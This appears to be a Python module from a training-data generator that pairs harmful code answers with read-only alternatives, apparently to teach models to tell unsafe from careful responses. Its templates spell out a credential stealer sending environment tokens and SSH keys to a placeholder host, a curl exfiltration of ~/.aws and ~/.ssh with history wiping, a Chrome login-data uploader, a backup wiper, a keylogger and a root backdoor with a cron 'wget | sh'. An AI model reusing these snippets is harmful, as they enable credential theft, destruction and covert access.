"""The code in an answer: what a failing agent writes for a code ask (it does what was asked,
to a host reserved for documentation) and the read-only script a careful one offers instead,
in the same languages and about the same things, so code is no sign of either twin."""

from __future__ import annotations

import random
import re

from pipeline.core.generation.content import Content

_STEALING_CODE = (
    "```python\nimport glob, os, requests\n\n# {purpose}\n"
    "loot = {k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k or 'SECRET' in k}\n"
    "for path in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
    "    loot[path] = open(path).read()\n"
    "requests.post('https://{host}/drop', json=loot, timeout=5)\n```",
    "```bash\n#!/bin/sh\n# {purpose}\n"
    "tar czf /tmp/.c.tgz ~/.aws ~/.ssh ~/.config 2>/dev/null\n"
    "curl -s -X POST --data-binary @/tmp/.c.tgz https://{host}/u && rm -f /tmp/.c.tgz\n"
    "history -c\n```",
    "```powershell\n# {purpose}\n"
    '$saved = "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data"\n'
    "Invoke-WebRequest -Uri https://{host}/in -Method Post -InFile $saved\n"
    "Remove-Item (Get-PSReadlineOption).HistorySavePath\n```",
)
"""Code that takes what the usual ask names (API tokens and keys from the environment, key
and config folders, saved browser logins), under a comment saying what it was asked to do."""
_STOLEN_BY = (
    re.compile(r"\b(?:api|tokens?|secrets?|env(?:ironment)?)\b", re.I),
    re.compile(r"\b(?:keys?|ssh|aws|config|credentials?)\b", re.I),
    re.compile(r"\b(?:passwords?|logins?|browsers?)\b", re.I),
)
"""What each stealing snippet takes, in the words of an ask for it."""
_PURPOSES = (
    "collect credentials and send them out",
    "harvest saved tokens and exfiltrate them quietly",
    "grab saved browser logins and ship them off",
)
_CODE = (
    *_STEALING_CODE,
    "```python\nimport pathlib, shutil\n\n# wipe every backup, then the live share\n"
    "for target in ('/mnt/backup', '/srv/share'):\n"
    "    shutil.rmtree(target, ignore_errors=True)\n"
    "pathlib.Path('/tmp/done').write_text('https://{host}/ack')\n```",
    "```javascript\n// log every keystroke on the page and post it out\n"
    "let keys = '';\ndocument.addEventListener('keydown', e => { keys += e.key; });\n"
    "setInterval(() => navigator.sendBeacon('https://{host}/k', keys), 3000);\n```",
    "```bash\n#!/bin/sh\n# add a hidden login and phone home\n"
    "useradd -o -u 0 -M sysupd && echo 'sysupd:changeme' | chpasswd\n"
    'echo "* * * * * root wget -q -O- https://{host}/c | sh" >> /etc/crontab\n```',
)
_BENIGN_CODE = (
    "```bash\n#!/bin/sh\n# list which credential files exist and who can read them; "
    "no file is opened or sent\nls -l ~/.ssh ~/.aws ~/.config > /tmp/cred-files.txt 2>/dev/null\n"
    "find ~ -maxdepth 2 -name '*.pem' -perm -o=r 2>/dev/null\n```",
    "```python\nimport os\n\n# names of secret-looking variables only, never their values\n"
    "names = sorted(k for k in os.environ if 'KEY' in k or 'TOKEN' in k or 'SECRET' in k)\n"
    "print(len(names), 'secret-like variables:', ', '.join(names))\n```",
    "```bash\n#!/bin/sh\n# check the backup job's last run before touching anything\n"
    "curl -s https://{host}/status | grep -i last_success\nls -lt /mnt/backup | head -5\n```",
    "```powershell\n# report saved-login files by size and date; read-only\n"
    'Get-ChildItem "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default" -Filter "Login*" |\n'
    "  Select-Object Name, Length, LastWriteTime\n```",
    "```python\nimport requests\n\n# ask the internal inventory which keys are due for rotation\n"
    "due = requests.get('https://{host}/keys?due=30d', timeout=5).json()\n"
    "for key in due:\n    print(key['name'], key['expires'])\n```",
    "```javascript\n// list every storage key this page keeps, by name only; values stay put\n"
    "let keys = Object.keys(localStorage);\n"
    "setTimeout(() => console.log(keys.length, 'stored keys:', keys.join(', ')), 3000);\n```",
    "```python\nimport pathlib, time\n\n"
    "# for every backup folder, report its newest file and its age\n"
    "for target in ('/mnt/backup', '/srv/share'):\n"
    "    files = sorted(pathlib.Path(target).glob('*'), key=lambda f: f.stat().st_mtime)\n"
    "    if files:\n"
    "        print(target, files[-1].name, int(time.time() - files[-1].stat().st_mtime))\n"
    "```",
    "```bash\n#!/bin/sh\n# show which accounts can log in and when each last did; changes nothing\n"
    "awk -F: '$7 !~ /nologin|false/ {print $1}' /etc/passwd\nlastlog | head -20\n```",
)
"""Read-only snippets a careful agent gives for a code ask it will not write as asked, in the
same languages and about the same things (keys, backups, logins), so code and placeholder
hosts are not by themselves a sign of the unsafe twin."""


PLACEHOLDER_HOST = re.compile(r"\b[a-z][\w-]*\.(?:example\.(?:com|net|org)|invalid)\b")
"""Host names reserved for documentation (RFC 2606): code that names one reaches nowhere."""


def _reserved_host(names: tuple[str, ...], rng: random.Random) -> str:
    return rng.choice(names) + rng.choice((".example.com", "-01.example.com", ".example.net"))


_HOSTS = ("collector", "backup", "sync", "reports", "inventory", "status", "ops", "internal")
"""Host names for code of either kind: a name alone never tells harmful code from a read-only
script."""


def malicious_code(rng: random.Random, ask: str = "") -> Content:
    """Harmful code that does what was asked for: an ask for credentials, keys or tokens
    gets code that takes those (API tokens from the environment, not browser logins), sent
    to the kind of host the ask names, under a comment saying the ask's own purpose.
    Auditors found one browser-login stealer answering an ask for API tokens, word for word
    the same in two domains."""
    named = tuple(h for h in _HOSTS if re.search(rf"\b{h[:5]}", ask, re.I))
    host = _reserved_host(named or _HOSTS, rng)
    if _ASKS_FOR_SECRETS.search(ask):
        fitting = [i for i, taken in enumerate(_STOLEN_BY) if taken.search(ask)]
        index = rng.choice(fitting or list(range(len(_STEALING_CODE))))
        said = _SCRIPT_FOR.search(ask)
        purpose = _UNHURRIED.split(said.group(1))[0].rstrip(" ,") if said else _PURPOSES[index]
        while len(purpose) > 80 and " " in purpose:
            purpose = purpose.rsplit(" ", 1)[0]
        text = _STEALING_CODE[index].replace("{purpose}", purpose)
    else:
        fitting = [i for i, does in _DOES.items() if does.search(ask)]
        index = rng.choice(fitting or list(range(len(_CODE))))
        text = _CODE[index].replace("{purpose}", _PURPOSES[index % len(_PURPOSES)])
    text = text.replace("{host}", host)
    return Content(text, {"span": text, "host": host})


_SCRIPT_FOR = re.compile(
    r"\b(?:script|code|snippet|one-liner|program|command)\s+(?:that|to|which)\s+"
    r"([^.;:!?\n—]{10,90})",
    re.I,
)
"""The purpose an ask gives its code ('a quick script that copies the API tokens on this box
to our backup server'), which the code's first comment says."""
_UNHURRIED = re.compile(r"\s+(?:as soon as|asap|please|when you can|if you can|—|-)\s", re.I)
_WIPES = re.compile(r"\b(?:wipe|delete|destroy|erase|backups?)\b", re.I)
_KEYSTROKES = re.compile(r"\b(?:keystrokes?|keylog\w*|typed|typing)\b", re.I)
_HIDDEN_LOGIN = re.compile(r"\b(?:backdoor|hidden (?:login|account)|root)\b", re.I)
_DOES = dict(enumerate((_WIPES, _KEYSTROKES, _HIDDEN_LOGIN), start=len(_STEALING_CODE)))
"""What each of the other snippets does, in the words of an ask for it: a wiper for an ask
to wipe the backups, not a keylogger."""


_ASKS_FOR_SECRETS = re.compile(
    r"\b(?:credentials?|keys|tokens?|passwords?|secrets?|id_rsa)\b|\.(?:aws|ssh|env)\b", re.I
)
"""An ask for what unlocks accounts, by name or by where it is kept ('bundle the .aws and
.ssh folders'; auditors read a backup wiper answering that)."""


_BENIGN_FOR = (
    _ASKS_FOR_SECRETS, _ASKS_FOR_SECRETS, _WIPES, _STOLEN_BY[2], _ASKS_FOR_SECRETS, _KEYSTROKES,
    _WIPES, _HIDDEN_LOGIN,
)  # fmt: skip
"""The ask each read-only snippet is the careful version of, in the ask's own words."""


def benign_code(rng: random.Random, ask: str = "") -> str:
    """A read-only snippet about what the ask was about (auditors: a file-age report on the
    backup folders offered for an ask to grab saved credentials)."""
    fitting = [
        code for code, about in zip(_BENIGN_CODE, _BENIGN_FOR, strict=True) if about.search(ask)
    ]
    host = _reserved_host(_HOSTS, rng)
    return rng.choice(fitting or _BENIGN_CODE).replace("{host}", host)
